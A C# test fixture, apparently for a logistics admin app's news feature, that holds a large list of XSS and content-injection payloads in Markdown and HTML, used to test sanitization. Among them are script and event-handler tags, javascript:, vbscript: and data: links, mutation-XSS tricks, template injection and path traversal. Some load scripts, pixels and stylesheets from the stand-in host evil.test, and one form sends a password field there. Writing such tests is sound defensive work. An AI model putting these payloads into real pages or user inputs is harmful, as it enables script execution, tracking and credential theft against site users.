namespace LogisticsAdmin.Tests.News;

/// <summary>
/// What attackers have pasted into other systems: each tries to run a script (always alert) or to load something from outside
/// (always evil.test) when somebody reads it.
/// </summary>
internal static class HostilePayloads
{
    /// <summary>One a line, as Markdown.</summary>
    public static IReadOnlyList<string> Lines { get; } = [.. Written.Split('\n').Where(l => l.Length > 0)];

    /// <summary>Those that need several lines.</summary>
    public static IReadOnlyList<string> Blocks { get; } =
    [
        "[x][1]\n\n[1]: javascript:alert(1)",
        "[x][1]\n\n[1]: <javascript:alert(1)> 'title\" onmouseover=\"alert(1)'",
        "![x][2]\n\n[2]: https://evil.test/a.png",
        "![x][3]\n\n[3]: data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=",
        "| a | b |\n| --- | --- |\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
        "| <svg onload=alert(1)> |\n| :-: |\n| [x](javascript:alert(1)) |",
        "```html\n<script>alert(1)</script>\n```",
        "```\"><script>alert(1)</script>\ncode\n```",
        "~~~ js onmouseover=alert(1)\ncode\n~~~",
        "> <iframe src=https://evil.test></iframe>\n> [x](vbscript:alert(1))",
        "<script>\nalert(1)\n</script>",
        "<style>\nbody{background:url(https://evil.test/a.png)}\n</style>",
        "<div\nonclick=alert(1)\nstyle=position:fixed>x</div>",
        "<a\nhref=\"java\nscript:alert(1)\">x</a>",
        "- [ ] <img src=x onerror=alert(1)>\n- [x] [x](javascript:alert(1))",
        "<form action=https://evil.test>\n<input name=password autofocus onfocus=alert(1)>\n</form>",
        "<!--\n--><img src=x onerror=alert(1)>",
        "<![CDATA[\n<img src=x onerror=alert(1)>\n]]>",
        "<math><mtext><table><mglyph><style><!--</style>\n<img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">\n</noscript>",
        "setext <img src=x onerror=alert(1)>\n===",
        "Term\n:   <img src=x onerror=alert(1)>",
        "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
        "::: \"><script>alert(1)</script>\nx\n:::",
        "$$\n\\href{javascript:alert(1)}{ x}\n$$",
    ];

    /// <summary>What may stand in a title, a summary, a file name or the name of a column.</summary>
    public static IReadOnlyList<string> Names { get; } =
    [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "'-alert(1)-'", "{{alert(1)}}", "${alert(1)}",
        "</title><script>alert(1)</script>", "javascript:alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "\u202E<img src=//evil.test>",
    ];

    private const string Written = """"
        <script>alert(1)</script>
        <SCRIPT SRC=https://evil.test/x.js></SCRIPT>
        <script/src="https://evil.test/x.js"></script>
        <scr<script>ipt>alert(1)</scr</script>ipt>
        <script>alert(1)
        <script type=module>import('https://evil.test/x.js')</script>
        <script src=data:text/javascript,alert(1)></script>
        <img src=x onerror=alert(1)>
        <img src=x onerror="alert(1)">
        <img src=x:alert(1) onerror=eval(src)>
        <IMG """><SCRIPT>alert(1)</SCRIPT>">
        <img/src=x/onerror=alert(1)>
        <img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>
        <img src=x onerror=\u0061lert(1)>
        <img src="https://evil.test/pixel.png">
        <img src="//evil.test/pixel.png">
        <img srcset="https://evil.test/pixel.png 1x">
        <img src=javascript:alert(1)>
        <img lowsrc=https://evil.test/a.png dynsrc=https://evil.test/b.png>
        <image src=x href=x onerror=alert(1)>
        <picture><source srcset=https://evil.test/a.png><img src=x onerror=alert(1)></picture>
        <svg onload=alert(1)>
        <svg/onload=alert(1)>
        <svg><script>alert(1)</script></svg>
        <svg><script href=data:,alert(1) /></svg>
        <svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
        <svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
        <svg><set attributeName=onload to=alert(1)></svg>
        <svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+#x"></use></svg>
        <svg><image href=https://evil.test/a.svg></svg>
        <svg><foreignObject><body onload=alert(1)></foreignObject></svg>
        <svg><style>@import url(https://evil.test/a.css)</style></svg>
        <svg><title><style><img src=</style><img src=x onerror=alert(1)>
        <math href="javascript:alert(1)">x</math>
        <math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>
        <math><mi xlink:href="data:text/html,<script>alert(1)</script>">x</mi></math>
        <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
        <math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
        <iframe src=javascript:alert(1)></iframe>
        <iframe src=https://evil.test></iframe>
        <iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
        <iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>
        <iframe onload=alert(1)></iframe>
        <frameset onload=alert(1)>
        <object data=javascript:alert(1)></object>
        <object data=https://evil.test/x.swf></object>
        <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
        <embed src=javascript:alert(1)>
        <embed src=https://evil.test/x.swf allowscriptaccess=always>
        <applet code=https://evil.test/X.class></applet>
        <meta http-equiv=refresh content="0;url=https://evil.test">
        <meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">
        <meta http-equiv=Set-Cookie content="x=y">
        <base href=https://evil.test/>
        <link rel=stylesheet href=https://evil.test/a.css>
        <link rel=import href=https://evil.test/a.html>
        <link rel=prefetch href=https://evil.test/a>
        <link rel=dns-prefetch href=//evil.test>
        <style>@import 'https://evil.test/a.css';</style>
        <style>*{background:url("javascript:alert(1)")}</style>
        <style>li{list-style-image:url(https://evil.test/a.png)}</style><ul><li>x</ul>
        <div style="background:url(https://evil.test/a.png)">x</div>
        <div style="width:expression(alert(1))">x</div>
        <div style="behavior:url(https://evil.test/a.htc)">x</div>
        <div style="-moz-binding:url(https://evil.test/a.xml#x)">x</div>
        <div style="position:fixed;inset:0;z-index:9999">x</div>
        <div style="\62ackground:\75rl(https://evil.test/a.png)">x</div>
        <p style="content:url(https://evil.test/a.png)">x</p>
        <body onload=alert(1)>
        <body background=https://evil.test/a.png>
        <table background=https://evil.test/a.png><tr><td>x</table>
        <td background=https://evil.test/a.png>x
        <input autofocus onfocus=alert(1)>
        <input type=image src=https://evil.test/a.png onerror=alert(1)>
        <input type=text value=x formaction=javascript:alert(1)>
        <button formaction=javascript:alert(1)>x</button>
        <button autofocus onfocus=alert(1)>x</button>
        <select autofocus onfocus=alert(1)><option>x</select>
        <textarea autofocus onfocus=alert(1)></textarea>
        <keygen autofocus onfocus=alert(1)>
        <isindex action=javascript:alert(1) type=image>
        <form action=javascript:alert(1)><button>x</button></form>
        <form id=x></form><button form=x formaction=https://evil.test>x</button>
        <details open ontoggle=alert(1)>x</details>
        <marquee onstart=alert(1)>x</marquee>
        <marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
        <video src=https://evil.test/a.mp4 autoplay></video>
        <video poster=https://evil.test/a.png></video>
        <video><source onerror=alert(1)></video>
        <video src=x onerror=alert(1)></video>
        <audio src=https://evil.test/a.mp3 autoplay></audio>
        <audio src=x onerror=alert(1)></audio>
        <track src=https://evil.test/a.vtt onerror=alert(1)>
        <bgsound src=https://evil.test/a.wav>
        <portal src=https://evil.test></portal>
        <dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>
        <template><script>alert(1)</script></template>
        <slot onslotchange=alert(1)>x</slot>
        <xss id=x tabindex=1 onfocus=alert(1)>x</xss>
        <x onclick=alert(1)>x</x>
        <x contenteditable onblur=alert(1)>x</x>
        <a onmouseover=alert(1)>x</a>
        <a href=javascript:alert(1)>x</a>
        <a href="https://evil.test" ping="https://evil.test/ping">x</a>
        <div id=x tabindex=1 onfocus=alert(1)></div>
        <div onpointerrawupdate=alert(1)>x</div>
        <div onanimationstart=alert(1) style=animation-name:x>x</div>
        <div oncontentvisibilityautostatechange=alert(1) style=display:block;content-visibility:auto>x
        <p popover id=p onbeforetoggle=alert(1)>x</p><button popovertarget=p>x</button>
        <noscript><img title="</noscript><img src=x onerror=alert(1)>"></noscript>
        <textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
        <xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
        <title><img title="</title><img src=x onerror=alert(1)>"></title>
        <noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
        <plaintext><img src=x onerror=alert(1)>
        <listing>&lt;img src=x onerror=alert(1)&gt;</listing>
        <!--><img src=x onerror=alert(1)>-->
        <!--[if gte IE 4]><script>alert(1)</script><![endif]-->
        <? foo="><script>alert(1)</script>">
        <! foo="><script>alert(1)</script>">
        </p><script>alert(1)</script>
        </article><script>alert(1)</script>
        <p/onclick=alert(1)>x
        <<script>alert(1);//<</script>
        <%<!--'%><script>alert(1);</script -->
        ＜script＞alert(1)＜/script＞
        &lt;script&gt;alert(1)&lt;/script&gt;
        &amp;lt;img src=x onerror=alert(1)&amp;gt;
        %3Cscript%3Ealert(1)%3C/script%3E
        +ADw-script+AD4-alert(1)+ADw-/script+AD4-
        [x](javascript:alert(1))
        [x](JaVaScRiPt:alert(1))
        [x](javascript&colon;alert(1))
        [x](javascript&#58;alert(1))
        [x](javascript&#x3A;alert(1))
        [x](&#106;avascript:alert(1))
        [x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))
        [x](java&Tab;script:alert(1))
        [x](java&NewLine;script:alert(1))
        [x](&#1;javascript:alert(1))
        [x](<java script:alert(1)>)
        [x]( javascript:alert(1))
        [x](\javascript:alert(1))
        [x](javascript\:alert(1))
        [x](javascript://evil.test/%0aalert(1))
        [x](javascript:alert`1`)
        [x](vbscript:alert(1))
        [x](livescript:alert(1))
        [x](data:text/html,<script>alert(1)</script>)
        [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
        [x](DATA:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E)
        [x](blob:https://evil.test/1)
        [x](file:///etc/passwd)
        [x](filesystem:https://evil.test/x)
        [x](view-source:javascript:alert(1))
        [x](feed:javascript:alert(1))
        [x](jar:https://evil.test!/x)
        [x](ms-its:mhtml:https://evil.test)
        [x](//evil.test)
        [x](/\evil.test)
        [x](\\evil.test)
        [x](/&Tab;/evil.test)
        [x](https:evil.test)
        [x](x "onmouseover=alert(1)")
        [x](x 'title" onmouseover="alert(1)')
        [x](" onmouseover="alert(1))
        [a](<javascript:alert(1)>)
        [a](<x" onmouseover=alert(1) ">)
        <javascript:alert(1)>
        <vbscript:alert(1)>
        <data:text/html,alert(1)>
        <https://evil.test/" onmouseover="alert(1)>
        https://evil.test/"onmouseover="alert(1)
        www.evil.test"onmouseover=alert(1)
        ![x](javascript:alert(1))
        ![x](https://evil.test/pixel.png)
        ![x](//evil.test/pixel.png)
        ![x](http://localhost.evil.test/photos/0123456789abcdef0123456789abcdef)
        ![x](data:image/svg+xml,<svg onload=alert(1)>)
        ![x](data:image/png;base64,iVBORw0KGgo=)
        ![x](x "onerror=alert(1)")
        ![" onerror="alert(1)](x)
        ![x" onload="alert(1)](photos/0123456789abcdef0123456789abcdef)
        ![x](photos/../Account/Logout)
        ![x](photos/0123456789abcdef0123456789abcdef/../../../x)
        ![x](photos/0123456789abcdef0123456789abcdef "x' onerror='alert(1)")
        [![x](https://evil.test/a.png)](javascript:alert(1))
        [<img src=x onerror=alert(1)>](x)
        **<img src=x onerror=alert(1)>**
        `<img src=x onerror=alert(1)>`
        # <img src=x onerror=alert(1)>
        ## x {onclick=alert(1)}
        [x](y){onclick=alert(1) style=position:fixed}
        ~~<svg onload=alert(1)>~~
        ==<svg onload=alert(1)>==
        {{constructor.constructor('alert(1)')()}}
        {{7*7}}${alert(1)}#{alert(1)}<%= alert(1) %>
        @(alert(1)) @Html.Raw("<script>alert(1)</script>")
        {% include 'https://evil.test' %}
        \u003cimg src=x onerror=alert(1)\u003e
        ';alert(1)//";alert(1)//--></SCRIPT>">'><SCRIPT>alert(1)</SCRIPT>
        jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert(1)//>\x3e
        <a id=__proto__ name=cookie>x</a><form name=getElementById><input name=nodeName>
        <img name=currentScript><a id=CONFIG href=https://evil.test/x>x</a>
        """";
}
